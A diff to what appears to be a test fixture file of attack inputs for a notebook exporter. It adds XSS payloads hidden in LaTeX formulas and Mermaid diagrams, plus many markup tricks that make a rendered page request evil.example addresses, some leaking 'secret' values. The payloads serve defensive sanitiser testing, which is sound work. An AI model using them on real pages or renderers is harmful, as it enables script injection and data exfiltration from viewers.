@@ -1,4 +1,4 @@
-"""What pages were attacked with: scripts in 400 forms, and 100 ways to have a page tell somebody.
+"""What pages were attacked with: scripts in 400 forms, and 160 ways to have a page tell somebody.
 
 ``python -m tests.export.payloads`` prints how many.
 """
@@ -142,6 +142,28 @@ _SCRIPTS = [
     f"%%javascript\n{RUN}",
     f"%%html\n<script>{RUN}</script>",
     f"%%svg\n<svg onload={RUN}/>",
+    # Formulas and diagrams.
+    f"$\\href{{javascript:{RUN}}}{{x}}$",
+    f"$\\href{{java&#115;cript:{RUN}}}{{x}}$",
+    f"$$\\href{{data:text/html;base64,{_PAGE}}}{{x}}$$",
+    f"$\\url{{javascript:{RUN}}}$",
+    f'$\\htmlId{{x" onmouseover="{RUN}}}{{x}}$',
+    f"$\\htmlClass{{x' onclick='{RUN}}}{{x}}$",
+    f'$\\htmlData{{commandlinker-command=x, x="{RUN}"}}{{x}}$',
+    f"$\\mmlToken{{mi}}[onclick='{RUN}' href='javascript:{RUN}']{{x}}$",
+    f"$\\mmlToken{{mi}}[data-commandlinker-command='notebook:run-all-cells']{{{RUN}}}$",
+    f"$\\text{{<img src=x onerror={RUN}>}}$",
+    f'$\\unicode[x" onload="{RUN}]{{65}}$',
+    f"\\(\\style{{background:url(javascript:{RUN})}}{{x}}\\)",
+    f"\\begin{{equation}}\\href{{javascript:{RUN}}}{{x}}\\end{{equation}}",
+    f"\\[<script>{RUN}</script>\\]",
+    f"$a <img src=x onerror={RUN}> b$",
+    f"$a\\$<svg onload={RUN}>$",
+    f'```mermaid\ngraph LR\nA["<img src=x onerror={RUN}>"]\n```',
+    f"```mermaid\ngraph LR\nA-->B\nclick A call {RUN}\n```",
+    f"```mermaid\n%%{{init: {{'securityLevel': 'loose', 'htmlLabels': true}}}}%%\n"
+    f'graph LR\nA["<img src=x onerror={RUN}>"]\n```',
+    f'```mermaid\ngraph LR\nA-->B\nclick A href "javascript:{RUN}"\n```',
 ]
 
 _ADDRESSES = [
@@ -337,8 +359,79 @@ _ASKING = [
     "[x]: {0}\n\n![x]",
     "[x]({0}?q=secret)",
     "<{0}?q=secret>",
+    # Addresses that look as if they were on the page's own host.
+    "![x](///evil.example/{1})",
+    "![x](/\\evil.example/{1})",
+    "![x](\t//evil.example/{1})",
+    "![x](&#47;/evil.example/{1})",
+    "![x](/&sol;evil.example/{1})",
+    "![x](/&Tab;/evil.example/{1})",
+    "![x][p]\n\n[p]: //evil.example/{1}",
+    "<img src='//evil.example/{1}'>",
+    "<img src='/&#9;/evil.example/{1}'>",
+    "<img src='\\\\evil.example\\{1}'>",
+    "<img src='&#104;ttps:&#47;&#47;evil.example/{1}'>",
+    "&lt;img src='{0}'&gt;",
+    "%3Cimg src='{0}'%3E",
+    "<img\nsrc\n=\n{0}\n>",
+    "<img alt='>' src={0}>",
+    "<img loading=eager decoding=sync fetchpriority=high src={0}>",
+    "<img crossorigin=use-credentials srcset='{0} 1x, {0} 2x' sizes=100vw>",
+    "<a href='{0}' ping='{0}' target=_blank rel=opener>x</a>",
+    "<area ping='{0}' href='{0}'>",
+    "<video autoplay><source src='{0}' type=video/mp4></video>",
+    "<link rel='preload' as=font href='{0}' crossorigin>",
+    "<link rel=next href='{0}'>",
+    "<link rel=alternate type=text/css title=x href='{0}'>",
+    "<meta http-equiv=refresh content='0;//evil.example/{1}'>",
+    "<meta http-equiv=Content-Security-Policy content='default-src *; report-uri {0}'>",
+    "<div style='background:u\\72l({0})'>x</div>",
+    "<div style='--x:url({0});background:var(--x)'>x</div>",
+    "<div style='content:counter(x,url({0}))' class='jp-mod-active'>x</div>",
+    "<style>:root{{--x:url({0})}}*{{mask-image:var(--x)}}</style>",
+    "<style>@import/**/'//evil.example/{1}'layer(x);</style>",
+    "<svg><filter id=f><feImage xlink:href='{0}'/></filter><rect filter='url(#f)'/></svg>",
+    "<svg><pattern id=p><image href='{0}' width=9 height=9/></pattern></svg>",
+    "<svg><cursor xlink:href='{0}'/></svg>",
+    "<svg><a xlink:href='{0}'><text>x</text></a><animate href='{0}#x'/></svg>",
+    "<math><mi style='background:url({0})'>x</mi><mi href='{0}'>y</mi></math>",
+    # Diagrams.
+    "```mermaid\ngraph LR\nA@{{ img: '{0}' }}\n```",
+    "```mermaid\ngraph LR\nA[\"<img src='{0}'>\"]\n```",
+    "~~~ Mermaid x\n%%{{init: {{'themeCSS': '*{{background:url({0})}}'}}}}%%\ngraph LR\nA\n~~~",
+    "```mermaid\n---\nconfig:\n  themeCSS: '@import url({0})'\n---\ngraph LR\nA\n```",
+    "```mermaid\ngraph LR\nA-->B\nstyle A fill:url({0})\n```",
+    "```mermaid\ngraph LR\nA-->B\nclick A href '{0}'\n```",
+    "```mermaid\ngraph LR\nA-->B\nclassDef x background:u\\72l({0})\nclass A x\n```",
+    "> ```mermaid\n> sequenceDiagram\n> A->>B: $$\\includegraphics{{{0}}}$$\n> ```",
+    # Formulas.
+    "$$\\includegraphics[width=1em]{{{0}}}$$",
+    "$\\href{{{0}}}{{x}}$ and $\\url{{{0}}}$",
+    "\\(\\htmlData{{src={0}}}{{x}}\\)",
+    "$\\htmlStyle{{background:url({0})}}{{x}}$",
+    "$\\style{{background:url({0})}}{{x}}$",
+    "$\\style{{cursor:url({0}),auto}}{{x}}$",
+    "$$\\style{{cursor:url({0}),auto;border-image:url({0}) 1}}{{\\text{{x}}}}$$",
+    "$\\bbox[background:url({0})]{{x}}$",
+    "$\\bbox[border:1px solid url({0})]{{x}}$",
+    "$\\color{{url({0})}}{{x}} \\colorbox{{url({0})}}{{y}}$",
+    "$\\mmlToken{{mi}}[href='{0}' style='cursor:url({0}),auto']{{x}}$",
+    "$\\mathchoice{{}}{{\\style{{cursor:url(//evil.example/{1}),auto}}{{x}}}}{{}}{{}}$",
+    "$\\def\\x#1{{\\style{{cursor:url(#1),auto}}{{y}}}} \\x{{{0}}}$",
+    "$\\require{{html}}\\cssId{{x}}{{\\class{{jp-mod-active}}{{x}}}}$ $\\unicode[url({0})]{{65}}$",
+    "\\begin{{equation}}\\style{{cursor:url({0}),auto}}{{x}}\\end{{equation}}",
+    "\\begin{{align}}\\mmlToken{{mi}}[style='cursor:url({0})']{{x}}\\end{{align}}",
+    "\\\\(\\style{{cursor:url({0}),auto}}{{x}}\\\\)",
+    "\\\\[\\style{{cursor:url({0}),auto}}{{x}}\\\\]",
+    # Definitions, footnotes, and what becomes a link by itself.
+    "![a][A]\n\n[a]:\n  <{0}>\n  'title'",
+    "x[^e]\n\n[^e]: ![x]({0}) <img src='{0}'>",
+    "x[^f]\n\n[^f]:\n    ![x][g]\n\n[g]: {0}",
+    "www.evil.example/{1} and {0} and mailto:a@evil.example",
+    "![a]({0}){{: ping={0} }}",
+    "<details open ontoggle=fetch('{0}')><summary>![x]({0})</summary></details>",
 ]
-ASKING = [form.format(f"{_EVIL}{n}") for n, form in enumerate(_ASKING)]
+ASKING = [form.format(f"{_EVIL}{n}", n) for n, form in enumerate(_ASKING)]
 """Texts that want a page to ask for something elsewhere."""
 
 
